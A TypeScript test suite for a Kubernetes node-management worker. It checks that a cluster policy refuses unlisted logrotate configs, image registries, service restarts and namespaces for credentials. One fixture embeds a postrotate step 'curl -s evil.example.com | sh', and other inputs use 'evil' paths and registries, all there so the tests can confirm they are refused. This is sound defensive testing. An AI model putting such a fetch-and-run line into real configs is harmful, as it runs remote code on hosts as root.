/**
 * The worker's policy (clusters.yaml `policy`) as the activities apply it, with a registry whose
 * kubeconfig and SSH key do not exist: a call that got past a check would fail with another error,
 * so each refusal here is shown to come before any connection.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { ApplicationFailure } from '@temporalio/common';
import { mergeDockerConfig } from '../../src/activities/kube/docker-hub';
import { createNodeActivities } from '../../src/activities/node';
import { createDockerHubActivities } from '../../src/activities/kube/docker-hub';
import { createCalicoActivities } from '../../src/activities/kube/calico';
import { GUIDE_DOCKER_LOGROTATE_CONFIG } from '../../src/common/procedures/logrotate-sync';
import type { ClusterPolicy } from '../../src/common/registry-schema';
import { parseRegistry, registryFromEntries } from '../../src/worker/registry';

const dir = mkdtempSync(join(tmpdir(), 'nksr-policy-'));
const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

const registryWith = (policy?: ClusterPolicy) =>
  registryFromEntries({
    sim: {
      kubeconfig: '/nonexistent/kubeconfig',
      nodeAddressType: 'InternalIP',
      ssh: {
        user: 'centos',
        privateKeyPath: '/nonexistent/id_ed25519',
        knownHostsPath: '/nonexistent/known_hosts',
        port: 22,
        connectTimeoutMs: 1000,
      },
      dockerHub: { credentialsFile: '/nonexistent/dockerhub.json' },
      ...(policy ? { policy } : {}),
    },
  });

async function failureOf(p: Promise<unknown>): Promise<ApplicationFailure> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(ApplicationFailure);
  return err as ApplicationFailure;
}

const env = new MockActivityEnvironment();
const node = { cluster: 'sim', node: 'node-1' };
const SCRIPTED = `${GUIDE_DOCKER_LOGROTATE_CONFIG.replace(/}\n$/, '')}    postrotate\n        curl -s evil.example.com | sh\n    endscript\n}\n`;
const OTHER = '/var/log/app/*.log {\n    rotate 3\n    daily\n}\n';

describe('logrotate configs: only those the policy lists', () => {
  const install = (policy: ClusterPolicy | undefined, content: string) =>
    env.run(createNodeActivities({ registry: registryWith(policy) }).installNodeFile, {
      ...node,
      path: '/etc/logrotate.d/docker',
      content,
      validator: 'logrotate' as const,
    });

  test.each([
    [
      'another config, default policy',
      undefined,
      OTHER,
      /sha256 [0-9a-f]{64} refused.*policy\.logrotateSync\.configs/,
    ],
    ['a postrotate script, default policy', undefined, SCRIPTED, /refused by the worker's policy/],
    [
      'a listed config with a postrotate script, scripts not allowed',
      { logrotateSync: { configs: [{ sha256: sha256(SCRIPTED), allowScripts: false }] } },
      SCRIPTED,
      /postrotate directive.*allowScripts: true/,
    ],
    [
      'an include directive',
      { logrotateSync: { configs: [{ sha256: sha256('include /etc/evil\n'), allowScripts: false }] } },
      'include /etc/evil\n',
      /include directive/,
    ],
    [
      'a listed file that cannot be read admits nothing',
      { logrotateSync: { configs: [{ file: '/nonexistent/app.conf', allowScripts: false }] } },
      OTHER,
      /policy\.logrotateSync\.configs/,
    ],
  ])('%s: PolicyRefused before any connection', async (_what, policy, content, message) => {
    const err = await failureOf(install(policy, content));
    expect(err).toMatchObject({ type: 'PolicyRefused', nonRetryable: true });
    expect(err.message).toMatch(message);
    expect(err.message.split('\n')).toHaveLength(1);
    // The refused content is named by digest, never quoted.
    expect(err.message).not.toContain('curl');
  });

  test.each([
    ["the guide's config, default policy", undefined, GUIDE_DOCKER_LOGROTATE_CONFIG],
    [
      'a config listed by sha256',
      { logrotateSync: { configs: [{ sha256: sha256(OTHER), allowScripts: false }] } },
      OTHER,
    ],
    [
      'a scripted config whose entry allows scripts',
      { logrotateSync: { configs: [{ sha256: sha256(SCRIPTED), allowScripts: true }] } },
      SCRIPTED,
    ],
  ])('%s passes the policy (and then fails only on the missing cluster)', async (_what, policy, content) => {
    const err = await failureOf(install(policy, content));
    expect(err.type).not.toBe('PolicyRefused');
  });

  test('a config listed as a file next to clusters.yaml is admitted by its content', async () => {
    const file = join(dir, 'app.conf');
    writeFileSync(file, OTHER);
    const clusters = parseRegistry(
      [
        'clusters:',
        '  sim:',
        '    kubeconfig: /nonexistent/kubeconfig',
        '    policy:',
        '      logrotateSync:',
        '        configs:',
        '          - file: app.conf',
      ].join('\n'),
      join(dir, 'clusters.yaml'),
    );
    const entry = clusters.get('sim')!;
    expect(entry.policy?.logrotateSync?.configs).toEqual([{ file, allowScripts: false }]);
    const a = createNodeActivities({ registry: registryFromEntries({ sim: entry }) });
    const err = await failureOf(
      env.run(a.installNodeFile, { ...node, path: '/etc/logrotate.d/app', content: OTHER }),
    );
    expect(err.type).not.toBe('PolicyRefused');
    const changed = await failureOf(
      env.run(a.installNodeFile, { ...node, path: '/etc/logrotate.d/app', content: `${OTHER}# edited\n` }),
    );
    expect(changed.type).toBe('PolicyRefused');
  });

  test('checkNodeFile applies the same policy', async () => {
    const a = createNodeActivities({ registry: registryWith() });
    const err = await failureOf(
      env.run(a.checkNodeFile, {
        ...node,
        path: '/etc/logrotate.d/docker',
        content: OTHER,
        validator: 'logrotate' as const,
      }),
    );
    expect(err.type).toBe('PolicyRefused');
  });
});

describe('images pulled and tagged as the original: only from allowed registries', () => {
  const restore = (policy: ClusterPolicy | undefined, registry: string) =>
    env.run(createNodeActivities({ registry: registryWith(policy) }).restoreNodeImage, {
      ...node,
      runtime: 'docker' as const,
      image: 'docker.io/calico/node:v3.24.1',
      registry,
    });

  test.each([
    ['a registry of the input, default policy', undefined, 'evil.example.com/mirror'],
    [
      'a registry next to the listed one',
      { closedNetworkImageRecovery: { registries: ['harbor.example.com/mirror'] } },
      'harbor.example.com/mirror-evil',
    ],
    [
      "the guide's registry once the policy lists another",
      { closedNetworkImageRecovery: { registries: ['harbor.example.com/mirror'] } },
      'harbor-kr1.cloud.toastoven.net/container_service',
    ],
  ])('%s: ImageNotAllowed before any connection', async (_what, policy, registry) => {
    const err = await failureOf(restore(policy, registry));
    expect(err).toMatchObject({ type: 'ImageNotAllowed', nonRetryable: true });
    expect(err.message).toMatch(/policy\.closedNetworkImageRecovery\.registries/);
  });

  test("the guide's internal registry passes the default policy", async () => {
    const err = await failureOf(restore(undefined, 'harbor-kr1.cloud.toastoven.net/container_service'));
    expect(err.type).not.toBe('ImageNotAllowed');
  });
});

describe('units: only those the policy lists may be restarted', () => {
  const restart = (policy: ClusterPolicy | undefined, unit: string) =>
    env.run(createNodeActivities({ registry: registryWith(policy) }).restartNodeService, {
      ...node,
      unit,
      mode: 'restart' as const,
    });

  test.each([
    ['sshd, default policy', undefined, 'sshd'],
    ['kubelet, default policy', undefined, 'kubelet.service'],
    ['rpc-statd once the policy lists only rpcbind', { nodeServices: { units: ['rpcbind'] } }, 'rpc-statd'],
  ])('%s: PolicyRefused', async (_what, policy, unit) => {
    const err = await failureOf(restart(policy, unit));
    expect(err).toMatchObject({ type: 'PolicyRefused', nonRetryable: true });
    expect(err.message).toMatch(/policy\.nodeServices\.units/);
  });

  test('rpc-statd and rpc-statd.service pass the default policy', async () => {
    for (const unit of ['rpc-statd', 'rpc-statd.service', 'rpcbind']) {
      const err = await failureOf(restart(undefined, unit));
      expect(err.type).not.toBe('PolicyRefused');
    }
  });
});

describe('the Docker Hub credential: only into namespaces the policy lists', () => {
  const ensure = (policy: ClusterPolicy | undefined, namespace: string) =>
    env.run(createDockerHubActivities({ registry: registryWith(policy) }).ensurePullSecret, {
      cluster: 'sim',
      namespace,
      secretName: 'dockerhub',
      dryRun: false,
    });

  test.each([
    ['any namespace, default policy (none listed)', undefined, 'team-a'],
    ['kube-system with team-* listed', { dockerHubPullSecret: { namespaces: ['team-*'] } }, 'kube-system'],
    ['a longer name than the listed one', { dockerHubPullSecret: { namespaces: ['team'] } }, 'team-a'],
  ])('%s: PolicyRefused before the credential file is read', async (_what, policy, namespace) => {
    const err = await failureOf(ensure(policy, namespace));
    expect(err).toMatchObject({ type: 'PolicyRefused', nonRetryable: true });
    expect(err.message).toContain(`namespace ${namespace}`);
  });

  test('a listed namespace and a prefix* match get past the policy', async () => {
    for (const [namespaces, ns] of [
      [['team-a'], 'team-a'],
      [['team-*'], 'team-b'],
    ] as const) {
      const err = await failureOf(ensure({ dockerHubPullSecret: { namespaces: [...namespaces] } }, ns));
      // Next comes the credential file, which does not exist here.
      expect(err.type).toBe('RegistryInvalid');
    }
  });

  test('our secret keeps the entries of other registries; ours replace only our own', () => {
    const ours = JSON.stringify({ auths: { 'https://index.docker.io/v1/': { auth: 'bmV3' } } });
    const existing = Buffer.from(
      JSON.stringify({
        auths: {
          'https://index.docker.io/v1/': { auth: 'b2xk' },
          'harbor.example.com': { auth: 'aGFyYm9y' },
        },
      }),
    ).toString('base64');
    expect(JSON.parse(mergeDockerConfig(existing, ours))).toEqual({
      auths: {
        'harbor.example.com': { auth: 'aGFyYm9y' },
        'https://index.docker.io/v1/': { auth: 'bmV3' },
      },
    });
    // Deterministic: the same inputs give the same bytes, so a rerun reports unchanged.
    expect(mergeDockerConfig(existing, ours)).toBe(mergeDockerConfig(existing, ours));
    expect(JSON.parse(mergeDockerConfig(Buffer.from('not json').toString('base64'), ours))).toEqual(
      JSON.parse(ours),
    );
  });
});

describe("calico's pre-pull pull secret: the credential only into kube-system or a listed namespace", () => {
  const calico = (policy?: ClusterPolicy) => createCalicoActivities({ registry: registryWith(policy) });

  test('another namespace, default policy: refused before the credential file is read; preflight says anonymous', async () => {
    const err = await failureOf(
      env.run(calico().ensurePrePullSecret, { cluster: 'sim', namespace: 'team-a' }),
    );
    expect(err).toMatchObject({ type: 'PolicyRefused', nonRetryable: true });
    expect(err.message).toContain('namespace team-a');
    await expect(
      env.run(calico().checkPrePullCredential, {
        cluster: 'sim',
        namespace: 'team-a',
        images: ['docker.io/calico/node:v3.24.1'],
      }),
    ).resolves.toEqual({
      mode: 'anonymous',
      reason: 'namespace team-a is not kube-system nor in policy.dockerHubPullSecret.namespaces',
    });
  });

  test('kube-system, or a namespace the policy lists: past the policy, to the (missing) credential file', async () => {
    const cases: [ClusterPolicy | undefined, string][] = [
      [undefined, 'kube-system'],
      [{ dockerHubPullSecret: { namespaces: ['calico-*'] } }, 'calico-system'],
    ];
    for (const [policy, namespace] of cases) {
      const err = await failureOf(env.run(calico(policy).ensurePrePullSecret, { cluster: 'sim', namespace }));
      expect(err.type).toBe('RegistryInvalid');
      const check = await failureOf(
        env.run(calico(policy).checkPrePullCredential, {
          cluster: 'sim',
          namespace,
          images: ['docker.io/calico/node:v3.24.1'],
        }),
      );
      // A credential file that cannot be read fails the run in preflight, naming the file only.
      expect(check.type).toBe('RegistryInvalid');
      expect(check.message).toContain('/nonexistent/dockerhub.json');
    }
  });

  test('images on no docker.io host need no credential', async () => {
    await expect(
      env.run(calico().checkPrePullCredential, {
        cluster: 'sim',
        namespace: 'kube-system',
        images: ['harbor.example.com/calico/node:v3.24.1'],
      }),
    ).resolves.toEqual({ mode: 'not-needed' });
  });
});

describe('policy in clusters.yaml', () => {
  const parse = (policy: string) => () =>
    parseRegistry(
      `clusters:\n  sim:\n    kubeconfig: /k\n    policy:\n${policy
        .split('\n')
        .map((l) => `      ${l}`)
        .join('\n')}\n`,
      join(dir, 'clusters.yaml'),
    );

  test.each([
    ['an unknown procedure', 'rebootEverything: {}', /policy: unknown field rebootEverything/],
    [
      'a registry with a space',
      'closedNetworkImageRecovery:\n  registries: ["evil.io/a b"]',
      /registries\.\[0\]|registries\.0/,
    ],
    [
      'a namespace pattern with * inside',
      'dockerHubPullSecret:\n  namespaces: ["te*m"]',
      /prefix ending in \*/,
    ],
    ['a digest that is not sha256 hex', 'logrotateSync:\n  configs: [{sha256: abc}]', /configs/],
    ['a unit with a slash', 'nodeServices:\n  units: ["../sshd"]', /systemd unit name/],
  ])('%s is an error naming the field', (_what, policy, message) => {
    expect(parse(policy)).toThrow(message);
  });
});
